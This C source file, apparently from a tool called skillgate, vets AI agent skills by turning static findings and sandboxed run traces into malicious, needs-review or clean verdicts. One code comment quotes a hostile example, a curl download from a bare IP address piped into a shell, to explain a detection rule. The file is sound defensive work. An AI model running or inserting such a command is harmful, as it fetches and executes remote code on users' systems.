#include "vet.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "classify.h"
#include "digest.h"
#include "sanitize.h"
#include "util.h"

const char *sg_vet_verdict_name(enum sg_vet_verdict v)
{
    static const char *const names[] = {
#define X(id, name) name,
        SG_VET_VERDICTS(X)
#undef X
    };
    return (unsigned)v < SG_VET_VERDICT_COUNT ? names[v] : "?";
}

int sg_vet_verdict_parse(const char *s)
{
    for (int v = 0; s && v < SG_VET_VERDICT_COUNT; v++)
        if (!strcmp(s, sg_vet_verdict_name((enum sg_vet_verdict)v)))
            return v;
    return -1;
}

void sg_vet_key(const char *rel, char out[17])
{
    char d[SG_DIGEST_STRLEN];
    sg_sha256_text(rel, strlen(rel), d);
    memcpy(out, d + strlen("sha256:"), 16);
    out[16] = '\0';
}

/* A string kept as evidence: at most SG_VET_EVIDENCE_BYTES, cut at a
 * character's start, with "…" where it was cut. */
static json_t *evidence_str(const char *s)
{
    size_t n = strlen(s);
    if (n <= SG_VET_EVIDENCE_BYTES)
        return json_string(s);
    n = SG_VET_EVIDENCE_BYTES;
    while (n && ((unsigned char)s[n] & 0xC0) == 0x80)
        n--;
    cleanup_free char *cut = sg_xasprintf("%.*s…", (int)n, s);
    json_t *j = json_string(cut);
    return j ? j : json_string("(not UTF-8)");
}

/* Up to SG_VET_EVIDENCE_MAX strings of from, each capped, appended to to
 * (as far as it has room). */
static void evidence_add(json_t *to, json_t *from)
{
    size_t i;
    json_t *v;
    json_array_foreach(from, i, v) {
        if (json_array_size(to) >= SG_VET_EVIDENCE_MAX)
            return;
        if (json_is_string(v))
            json_array_append_new(to, evidence_str(json_string_value(v)));
    }
}

static json_t *run_classes(json_t *trace)
{
    json_t *out = json_array(), *cls = json_object_get(
                                       json_object_get(trace, "violation_summary"),
                                       "classifications");
    size_t i;
    json_t *c;
    json_array_foreach(cls, i, c) {
        json_t *ev = json_array();
        evidence_add(ev, json_object_get(c, "evidence"));
        json_array_append_new(out, json_pack("{s:O?, s:O?, s:O?, s:o}", "class",
                                             json_object_get(c, "class"), "severity",
                                             json_object_get(c, "severity"), "count",
                                             json_object_get(c, "count"), "evidence", ev));
    }
    return out;
}

/* The trace's refusals (what was refused, with its count), at most 50. */
static json_t *run_refused(json_t *trace)
{
    json_t *out = json_array(), *v;
    size_t i;
    json_array_foreach(json_object_get(trace, "refusals"), i, v) {
        if (i == 50)
            break;
        const char *subj = json_string_value(json_object_get(v, "subject"));
        json_array_append_new(out, json_pack("{s:O?, s:o, s:O?, s:O?}", "tool",
                                             json_object_get(v, "tool"), "subject",
                                             evidence_str(subj ? subj : ""), "count",
                                             json_object_get(v, "count"), "why",
                                             json_object_get(v, "why")));
    }
    return out;
}

json_t *sg_vet_run_entry(json_t *trace, const char *runnable, json_t *args,
                         const char *args_from, const char *trace_rel)
{
    return json_pack("{s:s, s:O, s:s, s:O?, s:O?, s:O?, s:O?, s:s?, s:o, s:o}",
                     "runnable", runnable, "args", args, "args_from", args_from, "status",
                     json_object_get(trace, "status"), "end_reason",
                     json_object_get(trace, "end_reason"), "exit",
                     json_object_get(trace, "exit_code"), "duration_ms",
                     json_object_get(trace, "duration_ms"), "trace", trace_rel, "classes",
                     run_classes(trace), "refused", run_refused(trace));
}

/* arr's items sorted by cmp, in a new array. */
static json_t *sorted(json_t *arr, int (*cmp)(const void *, const void *))
{
    size_t n = json_array_size(arr);
    cleanup_free json_t **v = sg_xcalloc(n ? n : 1, sizeof *v);
    for (size_t i = 0; i < n; i++)
        v[i] = json_array_get(arr, i);
    qsort(v, n, sizeof *v, cmp);
    json_t *out = json_array();
    for (size_t i = 0; i < n; i++)
        json_array_append(out, v[i]);
    return out;
}

static json_t *totals(json_t *skills, json_t *removed, bool against)
{
    size_t n[SG_VET_VERDICT_COUNT] = {0}, runs = 0, fresh = 0, changed = 0, i;
    json_t *r;
    json_array_foreach(skills, i, r) {
        int v = sg_vet_verdict_parse(json_string_value(json_object_get(r, "verdict")));
        n[v >= 0 ? v : SG_VET_REVIEW]++;
        runs += json_array_size(json_object_get(r, "runs"));
        const char *st = json_string_value(
            json_object_get(json_object_get(r, "changes"), "status"));
        fresh += st && !strcmp(st, "new");
        changed += st && !strcmp(st, "changed");
    }
    json_t *t = json_pack("{s:I, s:I, s:I, s:I, s:I}", "skills", (json_int_t)json_array_size(skills),
                          "malicious", (json_int_t)n[SG_VET_MALICIOUS], "needs_review",
                          (json_int_t)n[SG_VET_REVIEW], "clean", (json_int_t)n[SG_VET_CLEAN],
                          "runs", (json_int_t)runs);
    if (against) {
        json_object_set_new(t, "new", json_integer((json_int_t)fresh));
        json_object_set_new(t, "changed", json_integer((json_int_t)changed));
        json_object_set_new(t, "removed", json_integer((json_int_t)json_array_size(removed)));
    }
    return t;
}

/* ---- the verdict ---- */

enum level { L_NOTE, L_REVIEW, L_MALICIOUS };
static const char *const level_names[] = {"note", "review", "malicious"};

static enum level class_level(const char *cls, const char *sev)
{
    if (sev && (!strcmp(sev, "critical") || !strcmp(sev, "high")))
        return L_MALICIOUS;
    if (sev && !strcmp(sev, "medium"))
        return L_REVIEW;
    /* one or two credential places read: often a program's own
     * configuration, but a skill's script that reaches for one is what a
     * reviewer reads first */
    return cls && !strcmp(cls, "credential_read") ? L_REVIEW : L_NOTE;
}

static int level_parse(const char *s)
{
    for (int l = 0; s && l <= L_MALICIOUS; l++)
        if (!strcmp(s, level_names[l]))
            return l;
    return L_NOTE;
}

/* The reason in reasons with this rule and source, or a new one. run (a
 * new reference, or NULL) is taken over either way. */
static json_t *reason_for(json_t *reasons, enum level lv, const char *source, const char *rule,
                          const char *summary, json_t *run)
{
    size_t i;
    json_t *r;
    json_array_foreach(reasons, i, r) {
        if (!strcmp(json_string_value(json_object_get(r, "rule")), rule) &&
            !strcmp(json_string_value(json_object_get(r, "source")), source)) {
            json_decref(run);
            return r;
        }
    }
    r = json_pack("{s:s, s:s, s:s, s:n, s:s, s:[], s:n, s:n, s:o?}", "level", level_names[lv],
                  "source", source, "rule", rule, "severity", "summary", summary, "evidence",
                  "file", "line", "run", run);
    json_array_append_new(reasons, r);
    return r;
}

static void reasons_from_classes(json_t *reasons, json_t *run, size_t ri)
{
    size_t i;
    json_t *c;
    const char *runnable = json_string_value(json_object_get(run, "runnable"));
    json_array_foreach(json_object_get(run, "classes"), i, c) {
        const char *cls = json_string_value(json_object_get(c, "class"));
        const char *sev = json_string_value(json_object_get(c, "severity"));
        if (!cls)
            continue;
        const char *desc = sg_class_description(cls);
        cleanup_free char *sum = sg_xasprintf("%s: %s", runnable ? runnable : "?",
                                              desc ? desc : cls);
        json_t *r = reason_for(reasons, class_level(cls, sev), "dynamic", cls, sum,
                               json_integer((json_int_t)ri));
        json_object_set(r, "severity", json_object_get(c, "severity"));
        evidence_add(json_object_get(r, "evidence"), json_object_get(c, "evidence"));
    }
}

/* Hosts refused that the skill does not declare (a declared one is held
 * back while vetting, and says nothing). */
static void reasons_from_refused(json_t *reasons, json_t *run, size_t ri)
{
    size_t i;
    json_t *v;
    json_array_foreach(json_object_get(run, "refused"), i, v) {
        const char *tool = json_string_value(json_object_get(v, "tool"));
        if (!tool || strcmp(tool, "Fetch") || json_is_true(json_object_get(v, "declared")))
            continue;
        json_t *r = reason_for(reasons, L_REVIEW, "dynamic", "undeclared_host",
                               "reached for a host its manifest does not declare (refused)",
                               json_integer((json_int_t)ri));
        json_t *one = json_pack("[O]", json_object_get(v, "subject"));
        evidence_add(json_object_get(r, "evidence"), one);
        json_decref(one);
    }
}

/* A run stopped before it ended (its time bound, a Ctrl-C): what it does
 * after was not watched, and waiting past the bound is the cheapest way
 * to look clean. Never clean on what was seen before the stop. */
static void reasons_from_unfinished(json_t *reasons, json_t *run, size_t ri)
{
    const char *st = json_string_value(json_object_get(run, "status"));
    if (!st || (strcmp(st, "timeout") && strcmp(st, "interrupted") && strcmp(st, "incomplete") &&
                strcmp(st, "cancelled")))
        return;
    json_t *r = reason_for(reasons, L_REVIEW, "dynamic", "not_finished",
                           "a run was stopped before it ended: what it does after was not "
                           "watched",
                           json_integer((json_int_t)ri));
    const char *runnable = json_string_value(json_object_get(run, "runnable"));
    const char *end = json_string_value(json_object_get(run, "end_reason"));
    json_t *ev = json_pack("[s++]", runnable ? runnable : "?", ": ", end ? end : st);
    evidence_add(json_object_get(r, "evidence"), ev);
    json_decref(ev);
}

static void reasons_from_runs(json_t *reasons, json_t *rec)
{
    size_t i;
    json_t *run;
    json_array_foreach(json_object_get(rec, "runs"), i, run) {
        reasons_from_classes(reasons, run, i);
        reasons_from_refused(reasons, run, i);
        reasons_from_unfinished(reasons, run, i);
    }
}

static void reasons_from_static(json_t *reasons, json_t *st)
{
    json_int_t errs = json_integer_value(json_object_get(st, "errors"));
    json_int_t stops = json_integer_value(json_object_get(st, "blocking"));
    if (errs > 0) { /* errors the Agent Skills spec makes and agents load anyway: a note */
        json_t *r = reason_for(reasons, stops ? L_REVIEW : L_NOTE, "static", "manifest_errors",
                               stops ? "its manifest has errors its agent would not load it "
                                       "with, and a run of it stops"
                                     : "its manifest breaks rules of the Agent Skills spec "
                                       "that agents let pass",
                               NULL);
        evidence_add(json_object_get(r, "evidence"), json_object_get(st, "problems"));
    }
    size_t i;
    json_t *f;
    json_array_foreach(json_object_get(st, "findings"), i, f) {
        const char *kind = json_string_value(json_object_get(f, "kind"));
        const char *what = json_string_value(json_object_get(f, "what"));
        if (!kind)
            continue;
        json_t *r = reason_for(reasons, level_parse(json_string_value(json_object_get(f, "level"))),
                               "static", kind, what ? what : kind, NULL);
        if (json_is_null(json_object_get(r, "file"))) {
            json_object_set(r, "file", json_object_get(f, "file"));
            json_object_set(r, "line", json_object_get(f, "line"));
        }
        json_t *ev = json_array();
        const char *ex = json_string_value(json_object_get(f, "excerpt"));
        const char *de = json_string_value(json_object_get(f, "decoded"));
        const char *file = json_string_value(json_object_get(f, "file"));
        json_int_t line = json_integer_value(json_object_get(f, "line"));
        if (ex)
            json_array_append_new(ev, json_sprintf("%s:%lld: %s", file ? file : "?",
                                                   (long long)line, ex));
        if (de)
            json_array_append_new(ev, json_sprintf("decoded: %s", de));
        evidence_add(json_object_get(r, "evidence"), ev);
        json_decref(ev);
    }
}

/* A download from a bare public address piped into a shell, on one line
 * (os.system("curl -s http://54.91.154.110:13338/|sh")): honest installers
 * name their host; a line that does both is malicious, not two reviews. */
static void reasons_from_pairs(json_t *reasons, json_t *st)
{
    size_t i, k;
    json_t *a, *b;
    json_array_foreach(json_object_get(st, "findings"), i, a) {
        if (!json_is_string(json_object_get(a, "kind")) ||
            strcmp(json_string_value(json_object_get(a, "kind")), "download_run"))
            continue;
        json_array_foreach(json_object_get(st, "findings"), k, b) {
            const char *kind = json_string_value(json_object_get(b, "kind"));
            if (!kind || strcmp(kind, "raw_ip_url") ||
                !json_equal(json_object_get(a, "file"), json_object_get(b, "file")) ||
                !json_equal(json_object_get(a, "line"), json_object_get(b, "line")))
                continue;
            json_t *r = reason_for(reasons, L_MALICIOUS, "static", "download_run_from_ip",
                                   "a download from a bare public IP address run as code", NULL);
            if (json_is_null(json_object_get(r, "file"))) {
                json_object_set(r, "file", json_object_get(a, "file"));
                json_object_set(r, "line", json_object_get(a, "line"));
            }
            json_t *ev = json_pack("[O?]", json_object_get(a, "excerpt"));
            evidence_add(json_object_get(r, "evidence"), ev);
            json_decref(ev);
            break;
        }
    }
}

/* A skill that ships runnables none of which ran was not looked at while
 * it ran: never clean on the static pass alone. */
static void reasons_from_not_run(json_t *reasons, json_t *rec)
{
    json_t *nr = json_object_get(rec, "not_run");
    if (!json_array_size(nr))
        return;
    /* one harmless script run and the one that steals left past
     * --max-runs is not clean either: what was not watched is reviewed */
    bool none_ran = !json_array_size(json_object_get(rec, "runs"));
    json_t *r = reason_for(reasons, L_REVIEW, "dynamic", "not_run",
                           none_ran ? "none of what it ships was run: nothing was watched"
                                    : "some of what it ships was not run: that part was not "
                                      "watched",
                           NULL);
    size_t i;
    json_t *v;
    json_t *ev = json_array();
    json_array_foreach(nr, i, v)
        json_array_append_new(ev, json_sprintf("%s: %s",
                                               json_string_value(json_object_get(v, "runnable")),
                                               json_string_value(json_object_get(v, "why"))));
    evidence_add(json_object_get(r, "evidence"), ev);
    json_decref(ev);
}

static int reason_cmp(const void *a, const void *b)
{
    json_t *x = *(json_t *const *)a, *y = *(json_t *const *)b;
    int lx = level_parse(json_string_value(json_object_get(x, "level")));
    int ly = level_parse(json_string_value(json_object_get(y, "level")));
    if (lx != ly)
        return ly - lx;
    int c = strcmp(json_string_value(json_object_get(x, "source")),
                   json_string_value(json_object_get(y, "source")));
    return c ? c : strcmp(json_string_value(json_object_get(x, "rule")),
                          json_string_value(json_object_get(y, "rule")));
}

void sg_vet_decide(json_t *rec)
{
    json_t *reasons = json_array();
    reasons_from_runs(reasons, rec);
    reasons_from_static(reasons, json_object_get(rec, "static"));
    reasons_from_pairs(reasons, json_object_get(rec, "static"));
    reasons_from_not_run(reasons, rec);
    json_t *ranked_reasons = sorted(reasons, reason_cmp);
    json_decref(reasons);
    reasons = ranked_reasons;
    int top = L_NOTE;
    size_t i;
    json_t *r;
    json_array_foreach(reasons, i, r) {
        int l = level_parse(json_string_value(json_object_get(r, "level")));
        top = l > top ? l : top;
    }
    enum sg_vet_verdict v = top == L_MALICIOUS ? SG_VET_MALICIOUS
                            : top == L_REVIEW  ? SG_VET_REVIEW
                                               : SG_VET_CLEAN;
    json_object_set_new(rec, "verdict", json_string(sg_vet_verdict_name(v)));
    json_object_set_new(rec, "reasons", reasons);
}

json_t *sg_vet_text(const char *s)
{
    if (!s)
        return json_null();
    json_t *j = json_string(s);
    if (j)
        return j;
    cleanup_free char *shown = sg_sanitize_str(s, SG_SAN_KEEP_TAB);
    return json_string(shown);
}

json_t *sg_vet_not_vetted(const char *rel, const char *why)
{
    json_t *rec = json_pack("{s:s, s:o, s:s, s:{s:i, s:i, s:i, s:[], s:[]}, s:[], s:[{s:s, s:s}]}",
                            "schema", "skillgate.vet/1", "path", sg_vet_text(rel), "digest",
                            "unreadable: not vetted", "static", "errors", 0, "blocking", 0,
                            "warnings", 0, "problems", "findings", "runs", "not_run",
                            "runnable", "(the whole skill)", "why", why);
    sg_vet_decide(rec);
    return rec;
}

/* ---- against an earlier vetting ---- */

/* Each reason of a that b has not (by level, rule and summary): its
 * summary. */
static json_t *reasons_beyond(json_t *a, json_t *b)
{
    json_t *out = json_array(), *x, *y;
    size_t i, k;
    json_array_foreach(json_object_get(a, "reasons"), i, x) {
        bool seen = false;
        json_array_foreach(json_object_get(b, "reasons"), k, y) {
            if (json_equal(json_object_get(x, "rule"), json_object_get(y, "rule")) &&
                json_equal(json_object_get(x, "summary"), json_object_get(y, "summary")) &&
                json_equal(json_object_get(x, "level"), json_object_get(y, "level"))) {
                seen = true;
                break;
            }
        }
        if (!seen)
            json_array_append_new(out, json_pack("{s:O?, s:O?, s:O?}", "level",
                                                 json_object_get(x, "level"), "rule",
                                                 json_object_get(x, "rule"), "summary",
                                                 json_object_get(x, "summary")));
    }
    return out;
}

void sg_vet_compare(json_t *rec, json_t *old)
{
    if (!old) {
        json_object_set_new(rec, "changes", json_pack("{s:s}", "status", "new"));
        return;
    }
    /* a digest that could not be taken ("unreadable: File too large": a
     * link to /, a file past the cap) names no content: never "same" */
    const char *dg = json_string_value(json_object_get(rec, "digest"));
    bool same = dg && sg_str_has_prefix(dg, "sha256:") &&
                json_equal(json_object_get(rec, "digest"), json_object_get(old, "digest"));
    json_object_set_new(rec, "changes",
                        json_pack("{s:s, s:O?, s:O?, s:o, s:o}", "status",
                                  same ? "same" : "changed", "old_digest",
                                  json_object_get(old, "digest"), "old_verdict",
                                  json_object_get(old, "verdict"), "new_reasons",
                                  reasons_beyond(rec, old), "gone_reasons",
                                  reasons_beyond(old, rec)));
}

/* ---- reading records back ---- */

/* A record as `vet` writes it, or why not. */
static const char *record_problem(json_t *r)
{
    if (!json_is_object(r))
        return "not a JSON object";
    const char *schema = json_string_value(json_object_get(r, "schema"));
    if (!schema || strcmp(schema, "skillgate.vet/1"))
        return "schema: not skillgate.vet/1";
    if (!json_is_string(json_object_get(r, "path")))
        return "path: missing or not a string";
    if (!json_is_string(json_object_get(r, "digest")))
        return "digest: missing or not a string";
    if (sg_vet_verdict_parse(json_string_value(json_object_get(r, "verdict"))) < 0)
        return "verdict: not malicious, needs_review or clean";
    if (!json_is_array(json_object_get(r, "reasons")))
        return "reasons: missing or not an array";
    return NULL;
}

static json_t *load_json(int dfd, const char *name, const char *shown, char **why)
{
    int fd = openat(dfd, name, O_RDONLY | O_CLOEXEC | O_NOFOLLOW | O_NONBLOCK | O_NOCTTY);
    struct stat st;
    if (fd < 0 || fstat(fd, &st) < 0 || !S_ISREG(st.st_mode)) {
        *why = sg_xasprintf("%s: %s", shown, fd < 0 ? strerror(errno) : "not a regular file");
        if (fd >= 0)
            close(fd);
        return NULL;
    }
    cleanup_free char *buf = NULL;
    size_t len = 0;
    int e = sg_read_fd_capped(fd, SG_VET_RECORD_MAX, &buf, &len);
    close(fd);
    if (e < 0) {
        *why = sg_xasprintf("%s: %s", shown,
                            e == -EFBIG ? "larger than 8 MiB" : strerror(-e));
        return NULL;
    }
    json_error_t err;
    json_t *j = json_loadb(buf, len, JSON_REJECT_DUPLICATES, &err);
    if (!j)
        *why = sg_xasprintf("%s:%d:%d: %s", shown, err.line, err.column, err.text);
    return j;
}

static int append_record(json_t *arr, json_t *r, const char *shown, char **why)
{
    const char *p = record_problem(r);
    if (p) {
        *why = sg_xasprintf("%s: %s", shown, p);
        json_decref(r);
        return -EINVAL;
    }
    if (json_array_size(arr) >= SG_VET_RECORDS_MAX) {
        *why = sg_xasprintf("%s: more than %d records", shown, SG_VET_RECORDS_MAX);
        json_decref(r);
        return -E2BIG;
    }
    json_array_append_new(arr, r);
    return 0;
}

static int load_dir(int dfd, const char *path, json_t *arr, char **why)
{
    char **names = NULL;
    size_t n = 0;
    int sfd = openat(dfd, "skills", O_RDONLY | O_DIRECTORY | O_CLOEXEC | O_NOFOLLOW);
    int lfd = sfd < 0 ? -1 : fcntl(sfd, F_DUPFD_CLOEXEC, 0); /* the listing closes its own */
    int e = lfd < 0 ? -errno : sg_list_dir_fd(lfd, SG_LIST_ALL, SG_VET_RECORDS_MAX + 1, &names, &n);
    if (e < 0) {
        *why = sg_xasprintf("%s/skills: %s (not a `skillgate vet --out` folder?)", path,
                            strerror(-e));
        if (sfd >= 0)
            close(sfd);
        return e;
    }
    for (size_t i = 0; i < n && e == 0; i++) {
        if (!sg_str_has_suffix(names[i], ".json"))
            continue;
        cleanup_free char *shown = sg_xasprintf("%s/skills/%s", path, names[i]);
        json_t *r = load_json(sfd, names[i], shown, why);
        e = r ? append_record(arr, r, shown, why) : -EINVAL;
    }
    for (size_t i = 0; i < n; i++)
        free(names[i]);
    free(names);
    close(sfd);
    return e;
}

static int load_merged(const char *path, json_t *arr, char **why)
{
    json_t *doc = load_json(AT_FDCWD, path, path, why);
    if (!doc)
        return -EINVAL;
    const char *schema = json_string_value(json_object_get(doc, "schema"));
    int e = 0;
    if (!schema || strcmp(schema, "skillgate.vetreport/1")) {
        *why = sg_xasprintf("%s: schema: not skillgate.vetreport/1 (a `vet merge --json` file)",
                            path);
        e = -EINVAL;
    }
    size_t i;
    json_t *r;
    json_array_foreach(json_object_get(doc, "skills"), i, r) {
        if (e)
            break;
        cleanup_free char *shown = sg_xasprintf("%s: skills[%zu]", path, i);
        e = append_record(arr, json_incref(r), shown, why);
    }
    json_decref(doc);
    return e;
}

int sg_vet_load(const char *path, json_t *arr, char **why)
{
    int dfd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (dfd < 0)
        return errno == ENOTDIR ? load_merged(path, arr, why)
                                : (*why = sg_xasprintf("%s: %s", path, strerror(errno)), -errno);
    int e = load_dir(dfd, path, arr, why);
    close(dfd);
    return e;
}

json_t *sg_vet_find(json_t *arr, const char *path)
{
    size_t i;
    json_t *r;
    json_array_foreach(arr, i, r) {
        const char *p = json_string_value(json_object_get(r, "path"));
        if (p && !strcmp(p, path))
            return r;
    }
    return NULL;
}

/* ---- the merge ---- */

/* Two records' bytes, keys sorted: one order for the same skill vetted
 * twice (overlapping shards), whatever came first. */
static int dump_cmp(json_t *x, json_t *y)
{
    cleanup_free char *sx = json_dumps(x, JSON_SORT_KEYS | JSON_COMPACT);
    cleanup_free char *sy = json_dumps(y, JSON_SORT_KEYS | JSON_COMPACT);
    return strcmp(sx ? sx : "", sy ? sy : "");
}

/* By path; one path's records (overlapping shards, a rerun) worst
 * verdict first, so that the one the merge keeps is never the kinder of
 * two vettings that disagree (a run that timed out once, a race). */
static int path_cmp(const void *a, const void *b)
{
    json_t *x = *(json_t *const *)a, *y = *(json_t *const *)b;
    int c = strcmp(json_string_value(json_object_get(x, "path")),
                   json_string_value(json_object_get(y, "path")));
    if (c)
        return c;
    int vx = sg_vet_verdict_parse(json_string_value(json_object_get(x, "verdict")));
    int vy = sg_vet_verdict_parse(json_string_value(json_object_get(y, "verdict")));
    return vx != vy ? vx - vy : dump_cmp(x, y);
}

static int rank_cmp(const void *a, const void *b)
{
    json_t *x = *(json_t *const *)a, *y = *(json_t *const *)b;
    int vx = sg_vet_verdict_parse(json_string_value(json_object_get(x, "verdict")));
    int vy = sg_vet_verdict_parse(json_string_value(json_object_get(y, "verdict")));
    return vx != vy ? vx - vy
                    : strcmp(json_string_value(json_object_get(x, "path")),
                             json_string_value(json_object_get(y, "path")));
}

/* Sorted records without repeats; -EEXIST when a path comes with two
 * digests. */
static int ranked(json_t *records, json_t **out, char **why)
{
    json_t *bypath = sorted(records, path_cmp), *uniq = json_array(), *r, *prev = NULL;
    size_t i;
    int e = 0;
    json_array_foreach(bypath, i, r) {
        bool same = prev && json_equal(json_object_get(prev, "path"), json_object_get(r, "path"));
        if (same && !json_equal(json_object_get(prev, "digest"), json_object_get(r, "digest"))) {
            *why = sg_xasprintf("%s: vetted twice with different contents (%s, %s): merge the "
                                "shards of one vetting",
                                json_string_value(json_object_get(r, "path")),
                                json_string_value(json_object_get(prev, "digest")),
                                json_string_value(json_object_get(r, "digest")));
            e = -EEXIST;
            break;
        }
        if (!same)
            json_array_append(uniq, r);
        prev = r;
    }
    json_decref(bypath);
    *out = e ? NULL : sorted(uniq, rank_cmp);
    json_decref(uniq);
    return e;
}

/* The skills old had that skills has not, by path. */
static json_t *removed_since(json_t *skills, json_t *old)
{
    json_t *have = json_object(), *removed = json_array(), *r;
    size_t i;
    json_array_foreach(skills, i, r)
        json_object_set(have, json_string_value(json_object_get(r, "path")), json_true());
    json_t *olds = sorted(old, path_cmp);
    json_array_foreach(olds, i, r) {
        const char *p = json_string_value(json_object_get(r, "path"));
        if (json_object_get(have, p))
            continue;
        json_object_set(have, p, json_true());
        json_array_append_new(removed, json_pack("{s:s, s:O?, s:O?}", "path", p, "digest",
                                                 json_object_get(r, "digest"), "verdict",
                                                 json_object_get(r, "verdict")));
    }
    json_decref(olds);
    json_decref(have);
    return removed;
}

int sg_vet_merge(json_t *records, json_t *old, json_t **out, char **why)
{
    json_t *skills;
    int e = ranked(records, &skills, why);
    if (e < 0)
        return e;
    json_t *removed = old ? removed_since(skills, old) : NULL;
    *out = json_pack("{s:s, s:s, s:o, s:o}", "schema", "skillgate.vetreport/1",
                     "skillgate_version", SG_VERSION, "totals", totals(skills, removed, old != NULL),
                     "skills", skills);
    if (removed)
        json_object_set_new(*out, "removed", removed);
    return 0;
}
